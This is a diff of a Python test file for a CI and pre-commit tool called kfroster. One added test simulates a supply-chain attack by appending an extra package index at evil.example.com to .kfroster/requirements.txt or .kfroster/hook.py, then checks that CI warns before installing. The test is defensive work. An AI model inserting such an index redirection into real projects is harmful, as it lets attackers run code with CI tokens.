@@ -23,7 +23,6 @@ import pytest
 import typer
 from ruamel.yaml import YAML
 
-from compiler import __version__
 from compiler.cli import app
 from compiler.review.plan.model import RECOMMENDED_FAIL_ON, RISK_KINDS
 from compiler.review.pr_comment import MARKER
@@ -299,14 +298,11 @@ def load_text(text: str) -> Any:
     return YAML(typ="safe", pure=True).load(text)
 
 
-def test_template_installs_this_version_of_kfroster() -> None:
-    """The kfroster that checks out/ in CI must be the one that wrote it, byte for byte."""
-    [job] = load(TEMPLATE_WORKFLOW)["jobs"].values()
-    assert job["env"]["KFROSTER_PACKAGE"] == f"kfroster=={__version__}"
-    hooks = load(TEMPLATE_PRE_COMMIT)["repos"][0]["hooks"]
-    assert {str(hook["additional_dependencies"]) for hook in hooks} == {
-        str([f"kfroster=={__version__}"])
-    }
+def test_templates_name_no_kfroster_to_install() -> None:
+    """Which kfroster CI and the hooks install is pinned by kfroster init into one file
+    (.kfroster/requirements.txt): a version here would name one no index may have."""
+    for path in TEMPLATES.iterdir():
+        assert re.search(r"kfroster ?(==|@ )", path.read_text(encoding="utf-8")) is None, path
 
 
 # --- pre-commit ---------------------------------------------------------------------------------
@@ -407,8 +403,18 @@ def test_local_hooks_mirror_the_published_ones(path: Path, language: str) -> Non
     for published in published_hooks():
         mirrored = dict(hooks[published["id"]])
         assert mirrored.pop("language") == language
-        mirrored.pop("additional_dependencies", None)
-        assert mirrored == {key: value for key, value in published.items() if key != "language"}
+        # The template runs kfroster through the script that installs the pinned one.
+        entry = mirrored.pop("entry")
+        if language == "python":
+            command = published["entry"].removeprefix("kfroster ")
+            assert entry == f"python .kfroster/hook.py {command}"
+        else:
+            assert entry == published["entry"]
+        expected = {k: v for k, v in published.items() if k not in ("language", "entry")}
+        if language == "python":
+            assert mirrored.pop("files") == published["files"].replace(")$", r"|\.kfroster/.*)$")
+            expected.pop("files")
+        assert mirrored == expected
 
 
 def test_this_repository_needs_no_network_for_its_hooks() -> None:
@@ -599,7 +605,7 @@ def scaffolded(tmp_path: Path) -> Iterator[Any]:
     def make(*flags: str) -> tuple[Path, Job]:
         work = tmp_path / "-".join(flag.strip("-") for flag in flags[:1])
         result = subprocess.run(
-            [str(BIN / "kfroster"), "init", str(work), *flags],
+            [str(BIN / "kfroster"), "init", str(work), *flags, "--kfroster", "kfroster==0.1.0"],
             capture_output=True,
             text=True,
             check=False,
@@ -654,3 +660,82 @@ def test_the_docs_document_every_input_and_hook() -> None:
     assert documented == set(load(ACTION)["inputs"])
     assert all(f"`{hook_id}`" in section for hook_id in HOOK_IDS)
     assert "uses: OWNER/kfroster@v" in section
+
+
+@pytest.fixture
+def scaffolded_pull_request(tmp_path: Path) -> Path:
+    """A repository kfroster init made, pushed to origin/main, on a branch of its own."""
+    origin, work = tmp_path / "origin.git", tmp_path / "work"
+    done = subprocess.run(
+        [str(BIN / "kfroster"), "init", str(work), "--flux", "--kfroster", "kfroster==0.1.0"],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin))
+    git(work, "init", "-q", "-b", "main")
+    git(work, "add", "-A")
+    git(work, "commit", "-q", "-m", "scaffold")
+    git(work, "remote", "add", "origin", str(origin))
+    git(work, "push", "-q", "origin", "main")
+    git(work, "update-ref", "-d", "refs/remotes/origin/main")
+    git(work, "switch", "-q", "-c", "change")
+    return work
+
+
+@pytest.mark.parametrize(
+    "edit",
+    [
+        ".kfroster/requirements.txt",  # another kfroster (or another index) for CI and hooks
+        ".kfroster/hook.py",  # other code run by every reviewer's pre-commit
+    ],
+)
+def test_a_change_to_what_ci_installs_is_flagged_before_it_is_installed(
+    scaffolded_pull_request: Path, github: FakeGitHub, edit: str
+) -> None:
+    """Attack: a pull request swaps the pinned kfroster for code of its author's, which CI
+    would then install and run with the job's token. The workflow runs for it (paths), and
+    says so on the file, in the job summary and in the plan comment, before installing."""
+    work = scaffolded_pull_request
+    workflow = work / ".github/workflows/roster-review.yml"
+    assert ".kfroster/**" in load(workflow)["on"]["pull_request"]["paths"]
+    changed = work / edit
+    changed.write_text(
+        changed.read_text(encoding="utf-8") + "--extra-index-url https://evil.example.com\n"
+    )
+    git(work, "commit", "-q", "-am", "another kfroster")
+    job = Job(work, github.url, {"FAIL_ON": ""}, workflow)
+    steps = list(job.steps)
+    compare = "Compare the kfroster requirement with the base branch"
+    assert steps.index(compare) < steps.index("Install kfroster")
+    assert job.run("Fetch the base branch").returncode == 0
+    flagged = job.run(compare)
+    assert flagged.returncode == 0, flagged.stderr
+    assert flagged.stdout.splitlines() == [
+        "::warning file=.kfroster/requirements.txt,title=kfroster requirement changed::This pull "
+        "request changes which kfroster CI and the pre-commit hooks install: review it as code."
+    ]
+    assert "changes which kfroster CI and the pre-commit hooks install" in job.summary.read_text(
+        encoding="utf-8"
+    )
+    plan = job.run("Plan what the pull request grants and removes")
+    assert plan.returncode == 0, plan.stdout + plan.stderr
+    comment = (job.temp / "kfroster-plan" / "comment.md").read_text(encoding="utf-8")
+    assert comment.startswith(MARKER)
+    assert "changes which kfroster CI and the pre-commit hooks install" in comment
+
+
+def test_an_unchanged_requirement_is_not_flagged(
+    scaffolded_pull_request: Path, github: FakeGitHub
+) -> None:
+    work = scaffolded_pull_request
+    roster = work / "users.yaml"
+    roster.write_text(roster.read_text(encoding="utf-8") + "# a comment\n", encoding="utf-8")
+    git(work, "commit", "-q", "-am", "a comment")
+    job = Job(work, github.url, {"FAIL_ON": ""}, work / ".github/workflows/roster-review.yml")
+    assert job.run("Fetch the base branch").returncode == 0
+    quiet = job.run("Compare the kfroster requirement with the base branch")
+    assert quiet.returncode == 0
+    assert quiet.stdout == ".kfroster is as on the base branch.\n"
+    assert not job.summary.exists() or "kfroster CI" not in job.summary.read_text("utf-8")
